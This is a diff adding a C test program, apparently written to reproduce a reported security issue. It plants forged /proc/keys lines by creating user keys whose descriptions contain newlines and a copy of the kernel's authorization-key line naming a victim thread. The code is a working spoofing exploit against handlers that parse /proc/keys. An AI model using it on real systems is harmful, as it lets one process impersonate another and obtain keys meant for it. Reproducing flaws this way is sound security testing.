@@ -1,0 +1,147 @@
+/*
+ * forge_line: a requester that plants forged /proc/keys lines for its own
+ * authorization key (issue 20, item 1).
+ *
+ *   forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE
+ *
+ * One thread calls request_key("user", DESCRIPTION, CALLOUT) into the
+ * process keyring. The main thread polls /proc/keys for the authorization
+ * key the kernel makes for that request (the line that names the asking
+ * thread, `pid:<tid>`), and at once adds NFORGE user keys, viewable by
+ * everyone, whose descriptions are "f<i>", a newline, and a copy of that
+ * line naming VICTIM_TID instead: the kernel sorts keys by (random)
+ * serial, so with a few of them one likely comes before the real line.
+ *
+ * Prints "forged <n> before <m>" (keys planted; how many sort before the
+ * real line) or "forged 0 before 0" when the line was not seen in time,
+ * then "ok <hex payload>" or "err <errno>" for the request.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/keyctl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+
+static const char *desc, *callout;
+static volatile pid_t asking;
+static volatile int done;
+static long result, read_len;
+static int result_errno;
+/* Read by the asking thread: its process keyring is its own (credentials
+ * are per thread), so only it possesses the result. */
+static unsigned char payload[2048];
+
+static void *ask(void *arg)
+{
+	(void)arg;
+	asking = (pid_t)syscall(SYS_gettid);
+	result = syscall(SYS_request_key, "user", desc, callout, KEY_SPEC_PROCESS_KEYRING);
+	result_errno = errno;
+	if (result >= 0) {
+		read_len = syscall(SYS_keyctl, KEYCTL_READ, result, payload, sizeof payload);
+		if (read_len < 0)
+			result_errno = errno;
+	}
+	__atomic_store_n(&done, 1, __ATOMIC_SEQ_CST);
+	return NULL;
+}
+
+static double now(void)
+{
+	struct timespec t;
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+/* The whole of /proc/keys, NUL-terminated, in `buf`. */
+static size_t read_keys(char *buf, size_t cap)
+{
+	int fd = open("/proc/keys", O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	size_t n = 0;
+	ssize_t r;
+	while (n < cap - 1 && (r = read(fd, buf + n, cap - 1 - n)) > 0)
+		n += (size_t)r;
+	close(fd);
+	buf[n] = 0;
+	return n;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc != 5) {
+		fprintf(stderr, "usage: forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE\n");
+		return 2;
+	}
+	desc = argv[1];
+	callout = argv[2];
+	long victim = strtol(argv[3], NULL, 10);
+	int nforge = atoi(argv[4]);
+	if (nforge < 1 || nforge > 64)
+		nforge = 16;
+	pthread_t t;
+	if (pthread_create(&t, NULL, ask, NULL) != 0)
+		return 2;
+	while (!asking)
+		;
+	char pid_tag[32];
+	snprintf(pid_tag, sizeof pid_tag, " pid:%d ", (int)asking);
+	static char keys[1 << 20];
+	long forged[64];
+	int planted = 0, before = 0;
+	double give_up = now() + 5;
+	while (!__atomic_load_n(&done, __ATOMIC_SEQ_CST) && now() < give_up) {
+		read_keys(keys, sizeof keys);
+		char *line = NULL;
+		for (char *l = strtok(keys, "\n"); l; l = strtok(NULL, "\n")) {
+			if (strstr(l, " .request_ ") && strstr(l, pid_tag)) {
+				line = l;
+				break;
+			}
+		}
+		if (!line)
+			continue;
+		unsigned long serial = strtoul(line, NULL, 16);
+		/* The real line, naming the victim: same serial, flags,
+		 * target and callout length. */
+		char *at = strstr(line, pid_tag);
+		char *rest = strchr(at + 1, ' ');
+		char text[512];
+		for (int i = 0; i < nforge; i++) {
+			snprintf(text, sizeof text, "f%d\n%.*s pid:%ld%s\n", i, (int)(at - line), line,
+				 victim, rest);
+			long id = syscall(SYS_add_key, "user", text, "p", 1, KEY_SPEC_PROCESS_KEYRING);
+			if (id < 0)
+				continue;
+			syscall(SYS_keyctl, KEYCTL_SETPERM, id, 0x3f3f3f3f);
+			forged[planted++] = id;
+			if ((unsigned long)id < serial)
+				before++;
+		}
+		break;
+	}
+	pthread_join(t, NULL);
+	for (int i = 0; i < planted; i++)
+		syscall(SYS_keyctl, KEYCTL_INVALIDATE, forged[i]);
+	printf("forged %d before %d\n", planted, before);
+	if (result < 0) {
+		printf("err %d\n", result_errno);
+		return 0;
+	}
+	if (read_len < 0) {
+		printf("readerr %d\n", result_errno);
+		return 0;
+	}
+	printf("ok ");
+	for (long i = 0; i < read_len && i < (long)sizeof payload; i++)
+		printf("%02x", payload[i]);
+	printf("\n");
+	return 0;
+}
